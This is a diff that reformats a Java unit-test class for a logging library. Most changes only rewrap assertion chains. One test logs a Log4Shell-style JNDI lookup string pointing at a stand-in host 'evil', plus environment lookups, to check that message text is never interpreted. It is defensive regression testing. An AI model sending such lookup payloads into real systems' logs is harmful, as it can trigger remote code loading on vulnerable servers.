@@ -30,8 +30,7 @@ class LoggerApiTest {
     void messageText_isNeverInterpreted() {
         try (TestLogs logs = TestLogs.json()) {
             logs.logger("a").info("${jndi:ldap://evil/x} ${java:version} %s {0}", "${env:HOME}");
-            assertThat(logs.single().get("message").asText())
-                    .isEqualTo("${jndi:ldap://evil/x} ${java:version} %s {0}");
+            assertThat(logs.single().get("message").asText()).isEqualTo("${jndi:ldap://evil/x} ${java:version} %s {0}");
         }
     }
 
@@ -78,8 +77,13 @@ class LoggerApiTest {
     @Test
     void fluentForm_carriesFieldsCauseAndArguments() {
         try (TestLogs logs = TestLogs.json()) {
-            logs.logger("a").atWarn().with("order_id", 7L).with("ratio", 0.5).with("ok", true)
-                    .cause(new RuntimeException("late")).log("order {} retried", 7);
+            logs.logger("a")
+                    .atWarn()
+                    .with("order_id", 7L)
+                    .with("ratio", 0.5)
+                    .with("ok", true)
+                    .cause(new RuntimeException("late"))
+                    .log("order {} retried", 7);
             JsonNode record = logs.single();
             assertThat(record.get("level").asText()).isEqualTo("WARN");
             assertThat(record.get("message").asText()).isEqualTo("order 7 retried");
@@ -114,7 +118,8 @@ class LoggerApiTest {
             log.error("e");
             log.fatal("f");
             log.log(Level.INFO, "via log({})", "level");
-            assertThat(logs.records()).extracting(r -> r.get("level").asText())
+            assertThat(logs.records())
+                    .extracting(r -> r.get("level").asText())
                     .containsExactly("TRACE", "DEBUG", "INFO", "WARN", "ERROR", "FATAL", "INFO");
         }
     }
@@ -124,8 +129,10 @@ class LoggerApiTest {
         assertThat(Level.parse("warning")).isEqualTo(Level.WARN);
         assertThat(Level.parse(" Critical ")).isEqualTo(Level.FATAL);
         assertThat(Level.parse("debug")).isEqualTo(Level.DEBUG);
-        org.assertj.core.api.Assertions.assertThatIllegalArgumentException().isThrownBy(() -> Level.parse("LOUD"))
-                .withMessageContaining("LOUD").withMessageContaining("WARNING");
+        org.assertj.core.api.Assertions.assertThatIllegalArgumentException()
+                .isThrownBy(() -> Level.parse("LOUD"))
+                .withMessageContaining("LOUD")
+                .withMessageContaining("WARNING");
     }
 
     @Test
@@ -162,12 +169,10 @@ class LoggerApiTest {
             }
 
             @Override
-            public void flush() {
-            }
+            public void flush() {}
 
             @Override
-            public void close() {
-            }
+            public void close() {}
         };
         dev.cairn.spi.Sink collecting = new dev.cairn.spi.Sink() {
             @Override
@@ -176,12 +181,10 @@ class LoggerApiTest {
             }
 
             @Override
-            public void flush() {
-            }
+            public void flush() {}
 
             @Override
-            public void close() {
-            }
+            public void close() {}
         };
         try (TestLogs logs = TestLogs.json(c -> c.sink(broken).sink(collecting))) {
             logs.logger("a").info("first");
@@ -189,8 +192,11 @@ class LoggerApiTest {
             logs.system.flush();
             assertThat(seen).containsExactly("first", "second");
             assertThat(logs.records()).hasSize(2);
-            assertThat(logs.diagnosticLines()).anySatisfy(line -> assertThat(line)
-                    .startsWith("cairn: sink ").contains("disk full").contains("records lost"));
+            assertThat(logs.diagnosticLines())
+                    .anySatisfy(line -> assertThat(line)
+                            .startsWith("cairn: sink ")
+                            .contains("disk full")
+                            .contains("records lost"));
         }
     }
 
@@ -206,7 +212,8 @@ class LoggerApiTest {
                 }
             };
             log.info("outer", kv("value", chatty));
-            assertThat(logs.records()).extracting(r -> r.get("message").asText())
+            assertThat(logs.records())
+                    .extracting(r -> r.get("message").asText())
                     .containsExactly("inner record", "outer");
             assertThat(logs.records().get(1).get("value").asText()).isEqualTo("chatty");
         }
